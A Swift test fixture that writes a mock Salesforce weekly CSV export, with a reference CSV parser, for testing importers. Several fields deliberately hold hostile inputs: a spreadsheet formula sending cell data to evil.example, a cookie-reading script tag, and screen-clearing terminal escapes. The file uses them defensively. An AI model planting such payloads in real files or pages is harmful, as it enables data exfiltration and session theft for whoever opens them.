import Foundation
import VaultTesting

/// A small export in the exact shape of a real Salesforce weekly Data Export, written by the tests: every field
/// quoted, LF line ends, `"0"`/`"1"` and `"true"`/`"false"` booleans, `"2018-10-13 17:16:45"` datetimes, the empty-id
/// placeholder, a header-only file, a file without an Id column, an attachment file named by record id, a non-CSV file,
/// and hostile content (formulas, markup, terminal escapes) in every kind of field.
enum SalesforceWeeklyExport {
    static let placeholder = "000000000000000AAA"
    /// Values a web form accepted and a careless tool would interpret.
    static let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
    static let script = "<script>alert(document.cookie)</script>"
    static let escape = "\u{1b}[2J\u{1b}[31mREBOOT NOW\u{7}"
    static let attachmentBytes = Data((0..<256).map { UInt8($0) } + [0x0d, 0x0a, 0x00])

    /// The objects, as rows of strings (header first); `international` is text the encoding under test can hold.
    static func tables(international: String) -> [(name: String, rows: [[String]])] {
        [
            (
                "Account",
                [
                    [
                        "Id", "IsDeleted", "Name", "Type", "ParentId", "BillingPostalCode", "Phone",
                        "NumberOfEmployees", "AnnualRevenue",
                        "Code", "Score", "CreatedDate", "IsPartner", "Description",
                    ],
                    [
                        "0013000000AbCdEAAV", "0", "Acme, Inc.", "Customer", placeholder, "0100", "+49 30 1234567",
                        "120", "1500000.0",
                        "007", "1e5", "2018-10-13 17:16:45", "true", "Line one\nline \"two\"\r\nline three",
                    ],
                    [
                        "0013000000AbCdFAAV", "0", "Müller \(international)", "Partner", "0013000000AbCdEAAV", "10115",
                        "030 555", "", "250.5",
                        "12", "3", "2019-01-02 08:00:00", "false", formula,
                    ],
                    [
                        "0013000000AbCdGAAV", "1", script, "", "", "", "", "7", "",
                        "-4", "2.5", "2020-02-29 23:59:59", "false", escape,
                    ],
                ]
            ),
            (
                "Contact",
                [
                    [
                        "Id", "AccountId", "FirstName", "LastName", "Email", "MailingPostalCode", "Birthdate",
                        "IsDeleted",
                    ],
                    [
                        "0033000000XyZaBAAV", "0013000000AbCdEAAV", "Ada", "Lovelace", "ada@example.com", "0100",
                        "1815-12-10", "0",
                    ],
                    ["0033000000XyZaCAAV", "0013000000AbCdFAAV", formula, script, escape, "", "", "0"],
                    ["0033000000XyZaDAAV", placeholder, "Private", "Person \(international)", "", "", "", "0"],
                ]
            ),
            (
                "Lead",
                [
                    ["Id", "FirstName", "LastName", "Company", "IsConverted"],
                    ["00Q3000000LeAdAAAV", "Grace", "Hopper", "Navy", "false"],
                ]
            ),
            (
                "Opportunity",
                [
                    ["Id", "AccountId", "Name", "Amount", "StageName", "CloseDate", "IsWon"],
                    ["0063000000OpPoAAAV", "0013000000AbCdEAAV", "Big deal", "12500", "Closed Won", "2019-03-31", "1"],
                    ["0063000000OpPoBAAV", "0013000000AbCdFAAV", formula, "", "Prospecting", "2019-06-30", "0"],
                ]
            ),
            (
                "Case",
                [
                    ["Id", "AccountId", "ContactId", "CaseNumber", "Subject", "Status", "IsClosed", "ClosedDate"],
                    [
                        "5003000000CaSeAAAV", "0013000000AbCdEAAV", "0033000000XyZaBAAV", "00001001", script, "Closed",
                        "1", "2018-11-01 10:00:00",
                    ],
                    [
                        "5003000000CaSeBAAV", "0013000000AbCdFAAV", "0033000000XyZaCAAV", "00001002",
                        "Token: sk_live_123,\"x\"", "New", "0", "",
                    ],
                ]
            ),
            (
                "Task",
                [
                    ["Id", "WhoId", "WhatId", "Subject", "ActivityDate", "IsClosed"],
                    ["00T3000000TaSkAAAV", "0033000000XyZaBAAV", "0063000000OpPoAAAV", "Call", "2019-03-01", "true"],
                    ["00T3000000TaSkBAAV", "00Q3000000LeAdAAAV", "0013000000AbCdFAAV", formula, "2019-03-02", "false"],
                    ["00T3000000TaSkCAAV", "0033000000XyZaCAAV", "5003000000CaSeBAAV", escape, "", "false"],
                ]
            ),
            (
                "Attachment",
                [
                    ["Id", "ParentId", "Name", "ContentType", "BodyLength"],
                    ["00P3000000AtTaAAAV", "0013000000AbCdEAAV", "contract.pdf", "application/pdf", "259"],
                ]
            ),
            ("Campaign", [["Id", "Name", "IsActive"]]),
            (
                "LoginHistory",
                [
                    ["UserId", "LoginTime", "Status"],
                    ["0053000000UsErAAAV", "2018-10-13 17:16:45", "Success"],
                    ["0053000000UsErAAAV", "2018-10-14 09:00:00", "Invalid Password"],
                ]
            ),
        ]
    }

    enum Encoding {
        case utf8, windows1252
    }

    /// Writes the export into `directory`; returns the tables written.
    @discardableResult
    static func write(to directory: URL, encoding: Encoding = .utf8) throws -> [(name: String, rows: [[String]])] {
        let tables = tables(international: encoding == .utf8 ? "東京 😀 Zürich" : "Zürich € “quoted” – Ærø")
        try FileManager.default.createDirectory(at: directory, withIntermediateDirectories: true)
        for (name, rows) in tables {
            let text = rows.map { row in
                row.map { "\"" + $0.replacingOccurrences(of: "\"", with: "\"\"") + "\"" }.joined(separator: ",") + "\n"
            }
            .joined()
            try Data(encoding == .utf8 ? Array(text.utf8) : windows1252(text)).write(
                to: directory.appendingPathComponent("\(name).csv"))
        }
        try FileManager.default.createDirectory(
            at: directory.appendingPathComponent("Attachments"), withIntermediateDirectories: true)
        try attachmentBytes.write(to: directory.appendingPathComponent("Attachments/00P3000000AtTaAAAV"))
        try Data("Export of org 00D30000000xyz, weekly.\n".utf8).write(
            to: directory.appendingPathComponent("README.txt"))
        return tables
    }

    /// `text` in Windows-1252 (only the characters the tests use outside ASCII and Latin-1).
    static func windows1252(_ text: String) -> [UInt8] {
        let high: [Unicode.Scalar: UInt8] = ["€": 0x80, "“": 0x93, "”": 0x94, "–": 0x96]
        return text.unicodeScalars.map { scalar in
            if scalar.value < 0x80 || (0xA0...0xFF).contains(scalar.value) { return UInt8(scalar.value) }
            return high[scalar] ?? UInt8(ascii: "?")
        }
    }
}

/// An RFC 4180 parser written for the tests only, independent of ``ExportLayout/CSVReader``: it works on decoded
/// Unicode scalars, one at a time, and keeps no state across records but the current field.
enum ReferenceCSV {
    static func parse(_ text: String) -> [[String]] {
        var rows: [[String]] = []
        var row: [String] = []
        var field = String.UnicodeScalarView()
        var inQuotes = false
        var afterQuote = false
        var scalars = Array(text.unicodeScalars)
        if scalars.first == "\u{FEFF}" { scalars.removeFirst() }
        var index = 0
        func endRow() {
            row.append(String(field))
            field = String.UnicodeScalarView()
            rows.append(row)
            row = []
        }
        while index < scalars.count {
            let scalar = scalars[index]
            index += 1
            if inQuotes {
                if scalar == "\"" {
                    if index < scalars.count && scalars[index] == "\"" {
                        field.append("\"")
                        index += 1
                    } else {
                        inQuotes = false
                        afterQuote = true
                    }
                } else {
                    field.append(scalar)
                }
                continue
            }
            switch scalar {
            case "\"" where field.isEmpty && !afterQuote:
                inQuotes = true
            case ",":
                row.append(String(field))
                field = String.UnicodeScalarView()
                afterQuote = false
            case "\r", "\n":
                if scalar == "\r" && index < scalars.count && scalars[index] == "\n" { index += 1 }
                endRow()
                afterQuote = false
            default:
                field.append(scalar)
            }
        }
        if !field.isEmpty || !row.isEmpty || afterQuote { endRow() }
        return rows
    }

    /// `bytes` decoded: UTF-8, or Windows-1252 for the few characters the tests write.
    static func decode(_ bytes: [UInt8], windows1252: Bool) -> String {
        guard windows1252 else { return String(decoding: bytes, as: UTF8.self) }
        let high: [UInt8: Unicode.Scalar] = [0x80: "€", 0x93: "“", 0x94: "”", 0x96: "–"]
        var scalars = String.UnicodeScalarView()
        for byte in bytes { scalars.append(high[byte] ?? Unicode.Scalar(byte)) }
        return String(scalars)
    }
}
